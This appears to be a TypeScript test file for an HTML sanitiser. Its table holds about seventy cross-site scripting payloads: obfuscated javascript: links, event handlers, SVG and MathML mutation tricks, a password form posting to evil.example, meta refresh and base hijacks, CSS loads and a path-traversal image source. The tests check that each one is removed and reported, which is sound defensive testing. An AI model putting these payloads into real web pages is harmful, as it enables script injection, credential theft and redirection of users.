import { parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';
import { sanitiseContent } from '../sanitiseContent';
import { CoursePictures } from './coursePictures';
import { normalisePage } from './normalisePage';
import { aPng } from './testing/pictures';

const shelf = () => new CoursePictures([{ name: 'hands.png', bytes: aPng() }]);
const read = (html: string) =>
  normalisePage({ name: 'page.html', title: 'Hands', html: `<p>Safe words.</p>${html}` }, shelf());

const ELEMENTS =
  'p h2 h3 h4 ul ol li blockquote hr pre img table thead tbody tr th td strong em code br a sub sup'.split(
    ' ',
  );
const ATTRIBUTES = 'href src alt width height loading start scope colspan rowspan class'.split(' ');
const ADDRESS =
  /^(?:https:\/\/|mailto:|\/api\/v1\/content\/images\/[0-9a-f]{64}\.(?:svg|png|jpg|gif|webp)$)/;

type HtmlNode = {
  nodeName: string;
  attrs?: { name: string; value: string }[];
  childNodes?: HtmlNode[];
};

/** Parses the HTML as a browser does and returns the elements and attributes that a page may not have. */
function findHarm(html: string): string[] {
  const isHarm = ({ name, value }: { name: string; value: string }) =>
    !ATTRIBUTES.includes(name) || (['href', 'src'].includes(name) && !ADDRESS.test(value));
  const visit = ({ nodeName, attrs = [], childNodes = [] }: HtmlNode): string[] => [
    ...(nodeName.startsWith('#') || ELEMENTS.includes(nodeName) ? [] : [nodeName]),
    ...attrs.filter(isHarm).map(({ name, value }) => `${name}=${value}`),
    ...childNodes.flatMap(visit),
  ];
  return visit(parseFragment(html) as HtmlNode);
}

const TELLS: [string, string, string | null][] = [
  [
    'the names of what every object has',
    '<constructor><toString __proto__=x><p constructor=y>x</p></toString></constructor>',
    null,
  ],
  ['a script', '<script>alert(1)</script>', 'a script'],
  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'a script'],
  ['a script that is never closed', '<script>alert(1)', 'a script'],
  ['a script cut in two', '<scr<script>ipt>alert(1)</scr</script>ipt>', null],
  ['a module', '<script type="module">import "https://evil.example"</script>', 'a script'],
  ['a handler', '<p onclick="alert(1)">x</p>', 'something that runs by itself (onclick)'],
  [
    'a handler behind a slash',
    '<img/onerror=alert(1)/src=hands.png alt=x>',
    'something that runs by itself (onerror)',
  ],
  [
    'a handler without quotes',
    '<b onmouseover=alert(1)>x</b>',
    'something that runs by itself (onmouseover)',
  ],
  [
    'a handler in odd letters',
    '<p OnPointerEnter="alert(1)">x</p>',
    'something that runs by itself (onpointerenter)',
  ],
  ['a handler on the body', '<body onload=alert(1)>', 'something that runs by itself (onload)'],
  [
    'a link that runs',
    '<a href="javascript:alert(1)">x</a>',
    'an address that begins with javascript:',
  ],
  [
    'one in odd letters',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    'an address that begins with javascript:',
  ],
  [
    'one with a tab inside',
    '<a href="java&#9;script:alert(1)">x</a>',
    'an address that begins with javascript:',
  ],
  [
    'one with a line break inside',
    '<a href="java\nscript:alert(1)">x</a>',
    'an address that begins with javascript:',
  ],
  [
    'one behind control characters',
    '<a href="&#1;&#x0c;javascript:alert(1)">x</a>',
    'an address that begins with javascript:',
  ],
  [
    'one in entities',
    '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
    'an address that begins with javascript:',
  ],
  [
    'one with a character nobody sees',
    '<a href="java\u200bscript:alert(1)">x</a>',
    'an address that begins with javascript:',
  ],
  [
    'one in VBScript',
    '<a href="vbscript:msgbox(1)">x</a>',
    'an address that begins with vbscript:',
  ],
  [
    'a page in an address',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    'an address that begins with data:',
  ],
  [
    'one in base64',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    'an address that begins with data:',
  ],
  ['a blob', '<a href="blob:https://evil.example/1">x</a>', 'an address that begins with blob:'],
  [
    'an app of the device',
    '<a href="intent://x#Intent;end">x</a>',
    'an address that begins with intent:',
  ],
  [
    'a picture in an address',
    '<img src="data:image/png;base64,AA==" alt="x">',
    'an address that begins with data:',
  ],
  [
    'a drawing in an address',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    'an address that begins with data:',
  ],
  [
    'a drawing with a script',
    '<svg><script>alert(1)</script></svg>',
    'a drawing inside the page (svg)',
  ],
  [
    'a drawing with a page inside',
    '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
    'a drawing inside the page (svg)',
  ],
  [
    'a drawing that animates a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
    'a drawing inside the page (svg)',
  ],
  ['a drawing that runs', '<svg/onload=alert(1)>', 'something that runs by itself (onload)'],
  [
    'a formula',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    'a formula (math)',
  ],
  ['a frame', '<iframe src="https://evil.example"></iframe>', 'a page inside the page (iframe)'],
  [
    'a frame with its page',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    'a page inside the page (iframe)',
  ],
  ['a frame never closed', '<iframe><p>hidden', 'a page inside the page (iframe)'],
  [
    'frames',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    'a page inside the page (frame)',
  ],
  ['an object', '<object data="evil.swf"></object>', 'an embedded object (object)'],
  ['an embedded film', '<embed src="evil.swf">', 'an embedded object (embed)'],
  ['an applet', '<applet code="Evil.class"></applet>', 'an embedded object (applet)'],
  [
    'a form',
    '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
    'a form',
  ],
  [
    'a button that sends elsewhere',
    '<button formaction="javascript:alert(1)">x</button>',
    'a button',
  ],
  ['a choice', '<select><option>x</option></select>', 'a field (select)'],
  ['a text field', '<textarea></textarea><script>alert(1)</script>', 'a field (textarea)'],
  [
    'a field that runs when it is seen',
    '<input autofocus onfocus=alert(1)>',
    'something that runs by itself (onfocus)',
  ],
  [
    'an order to leave',
    '<meta http-equiv="Refresh" content="0;url=https://evil.example">',
    'an order to go to another page (meta refresh)',
  ],
  ['another base', '<base href="https://evil.example/">', 'another address for all links (base)'],
  [
    'a style that loads',
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    'a style that loads something',
  ],
  [
    'one in escapes',
    '<p style="background:u\\72l(https://evil.example)">x</p>',
    'a style that loads something',
  ],
  [
    'one that computes',
    '<p style="width:expression(alert(1))">x</p>',
    'a style that loads something',
  ],
  [
    'a film',
    '<video src="https://evil.example/x.mp4" poster="javascript:alert(1)"></video>',
    'a film (video)',
  ],
  ['sound', '<audio src="x.mp3"></audio>', 'sound (audio)'],
  [
    'a picture from elsewhere',
    '<img src="https://evil.example/x.png" alt="x">',
    'a picture from another site (https://evil.example/x.png)',
  ],
  [
    'one without a scheme',
    '<img src="//evil.example/x.png" alt="x">',
    'a picture from another site (//evil.example/x.png)',
  ],
  [
    'a picture outside the package',
    '<img src="../../etc/secret.png" alt="x">',
    'a picture outside the package (../../etc/secret.png)',
  ],
  [
    'a link without https',
    '<a href="http://example.com">x</a>',
    'a link without https (http://example.com)',
  ],
  [
    'a link without a scheme',
    '<a href="//evil.example">x</a>',
    'a link without https (//evil.example)',
  ],
  ['a link into the site', '<a href="/logout">x</a>', 'a link to another file (/logout)'],
  [
    'a link with backslashes',
    '<a href="\\\\evil.example">x</a>',
    'a link to another file (\\\\evil.example)',
  ],
  ['a style sheet', '<style>@import "https://evil.example";</style>', null],
  ['one linked to', '<link rel="stylesheet" href="https://evil.example/x.css">', null],
  ['more sources', '<img src="hands.png" alt="x" srcset="https://evil.example/x.png 2x">', null],
  [
    'sources of a picture',
    '<picture><source srcset="https://evil.example/x.png"><img src="hands.png" alt="x"></picture>',
    null,
  ],
  [
    'names that hide properties',
    '<p id="getElementById" name="cookie">x</p><a id=x href="https://a.example">y</a>',
    null,
  ],
  ['a comment for old browsers', '<!--[if IE]><script>alert(1)</script><![endif]-->', null],
  [
    'a comment that ends oddly',
    '<!--><img src=hands.png alt=x onerror=alert(1)>-->',
    'something that runs by itself (onerror)',
  ],
  ['an instruction', '<?xml-stylesheet href="javascript:alert(1)"?>', null],
  [
    'a shadow',
    '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
    'a script',
  ],
  ['words without a script', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', null],
  [
    'a mutation by style',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    'a formula (math)',
  ],
  [
    'a mutation by form',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    'a form',
  ],
  [
    'a mutation by select',
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=alert(1)>">',
    'a field (select)',
  ],
  [
    'a mutation by noscript',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    'a drawing inside the page (svg)',
  ],
  ['a mutation by xmp', '<xmp><p title="</xmp><img src=hands.png alt=x onerror=alert(1)>">', null],
  ['a mutation by plaintext', '<plaintext><script>alert(1)</script>', null],
  [
    'an attribute that ends early',
    '<a href="https://a.example/&quot;onclick=alert(1)">x</a>',
    null,
  ],
  ['a character of nothing', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', null],
  ['letters from right to left', '<p>safe\u202e gnp.exe\u2066</p>', null],
];

describe('html from outside', () => {
  it.each(TELLS)('is rid of %s', (_, html, wrong) => {
    const { html: written, harms, faults } = read(html);
    expect(faults).toEqual([]);
    expect(written).toContain('Safe words.');
    expect(written).not.toMatch(/<(?:script|style)|[\u0000-\u0008\u202a-\u202e\u2066-\u2069]/);
    expect(findHarm(written)).toEqual([]);
    for (const harm of harms) expect(harm.wrong).toEqual(expect.any(String));
    const isTold = harms.some(
      (harm) => harm.wrong === wrong && /^It was left out: .*\.$/.test(harm.fix),
    );
    expect(isTold).toBe(wrong !== null);
  });

  it('says nothing about a page that has nothing of the kind', () => {
    const { harms, faults } = read(
      '<h2 class="big" style="color: red">Wash</h2><p>See <a href="https://example.com/a?b=1&amp;c=2">this</a> or <a href="mailto:a@example.com">write</a>, or <a href="#top">go up</a>.</p>',
    );
    expect([harms, faults]).toEqual([[], []]);
  });

  it('comes out of the sieve as it went in', () => {
    for (const [, html] of TELLS) {
      const { html: written } = read(html);
      expect(sanitiseContent(written)).toBe(written);
    }
  });

  it('is refused when it is nested too deep, and soon', () => {
    const started = process.cpuUsage().user;
    for (const deep of ['<div>', '<b>', '<table><tr><td>', '<ul><li>', '<svg><g>']) {
      const { faults } = read(deep.repeat(199_000 / deep.length));
      expect(faults).toMatchObject([{ wrong: 'the page is nested more than 100 deep' }]);
    }
    expect(process.cpuUsage().user - started).toBeLessThan(2_000_000);
  });

  it('takes no longer because it is written to take long', () => {
    const started = process.cpuUsage().user;
    for (const slow of [
      '<b a>',
      '</i>',
      '<',
      '&',
      '<a href="',
      '<!--',
      '<p x=" ',
      '&#x202e;',
      '<li>',
      '<img src=hands.png alt=x>',
    ])
      read(slow.repeat(Math.floor(199_000 / slow.length)));
    expect(process.cpuUsage().user - started).toBeLessThan(5_000_000);
  });

  it('of more than 200,000 characters is refused', () => {
    expect(read('x'.repeat(200_000)).faults).toEqual([
      {
        wrong: 'a page of 200,018 characters',
        fix: 'Divide it: a page has at most 200,000.',
      },
    ]);
  });
});
